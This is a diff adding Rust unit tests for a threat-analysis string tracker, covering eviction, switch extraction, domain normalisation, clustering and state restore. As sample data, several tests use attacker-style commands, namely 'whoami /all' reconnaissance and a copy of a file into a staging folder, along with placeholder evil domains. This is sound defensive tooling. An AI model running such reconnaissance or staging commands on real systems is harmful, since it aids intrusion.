+    assert_eq!(tracker.evicted_count(), 15_000);
+    assert!(
+        capped < uncapped * 4 + Duration::from_millis(500),
+        "capped tracking took {:?}, uncapped {:?}",
+        capped,
+        uncapped
+    );
+}
+
+#[test]
+fn test_track_string_with_extraction_skips_switches() {
+    let tracker = StringTracker::new();
+    let context = || StringContext::Command {
+        command_type: "shell".to_string(),
+    };
+
+    tracker
+        .track_string_with_extraction(
+            "cmd.exe /c whoami /all",
+            "/test/switches.bat",
+            "switch_hash",
+            "extract_tool",
+            context(),
+        )
+        .unwrap();
+    assert_eq!(tracker.get_statistics(None).total_unique_strings, 1);
+    assert!(tracker.get_string_details("/c").is_none());
+    assert!(tracker.get_string_details("/all").is_none());
+
+    tracker
+        .track_string_with_extraction(
+            "copy /y C:\\Users\\Public\\a.dat /tmp/stage/a.dat",
+            "/test/switches.bat",
+            "switch_hash",
+            "extract_tool",
+            context(),
+        )
+        .unwrap();
+    assert!(tracker.get_string_details("/y").is_none());
+    assert!(tracker
+        .get_string_details("C:\\Users\\Public\\a.dat")
+        .is_some());
+    assert!(tracker.get_string_details("/tmp/stage/a.dat").is_some());
+    assert_eq!(tracker.get_statistics(None).total_unique_strings, 4);
+}
+
+#[test]
+fn test_key_normalizer_reports_tracked_values() {
+    use threatflux_string_analysis::ClusterOptions;
+
+    let normalized = || StringTracker::new().with_key_normalizer(|s| s.trim().to_lowercase());
+    let track = |tracker: &StringTracker, value: &str| {
+        tracker
+            .track_string(
+                value,
+                "/test/domains",
+                "domains_hash",
+                "domains_tool",
+                StringContext::FileString { offset: None },
+            )
+            .unwrap();
+    };
+
+    let baseline = normalized();
+    track(&baseline, "EvilDomain1.com");
+    track(&baseline, "EvilDomain2.com");
+
+    assert_eq!(
+        baseline.cluster_strings(ClusterOptions::default()),
+        vec![vec![
+            "EvilDomain1.com".to_string(),
+            "EvilDomain2.com".to_string()
+        ]]
+    );
+
+    let related = baseline.get_related_strings("evildomain1.com", 5);
+    assert_eq!(related.len(), 1);
+    assert_eq!(related[0].0, "EvilDomain2.com");
+
+    let current = normalized();
+    track(&current, "evildomain1.com ");
+    track(&current, "EVILDOMAIN1.COM");
+    track(&current, "EvilDomain3.com");
+
+    let diff = baseline.diff(&current);
+    assert_eq!(diff.added, vec!["EvilDomain3.com".to_string()]);
+    assert_eq!(diff.removed, vec!["EvilDomain2.com".to_string()]);
+    assert_eq!(diff.changed, vec![("EvilDomain1.com".to_string(), 1)]);
+}
+
+#[test]
+fn test_max_entries_after_restore_state() {
+    use chrono::{Duration, TimeZone, Utc};
+
+    let base = Utc.with_ymd_and_hms(2024, 9, 1, 0, 0, 0).unwrap();
+    let track = |tracker: &StringTracker, value: &str, minute: i64| {
+        tracker
+            .track_string_at(
+                value,
+                "/test/restore_lru",
+                "restore_lru_hash",
+                "lru_tool",
+                StringContext::FileString { offset: None },
+                base + Duration::minutes(minute),
+            )
+            .unwrap();
+    };
+
+    let source = StringTracker::new();
+    track(&source, "restored_old", 0);
+    track(&source, "restored_mid", 1);
+    track(&source, "restored_new", 2);
+
+    let capped = StringTracker::new().with_max_entries(3);
+    capped.restore_state(source.state()).unwrap();
+    track(&capped, "fresh_value", 3);
+
+    assert_eq!(capped.evicted_count(), 1);
+    assert!(capped.get_string_details("restored_old").is_none());
+    assert!(capped.get_string_details("restored_mid").is_some());
+    assert!(capped.get_string_details("fresh_value").is_some());
+}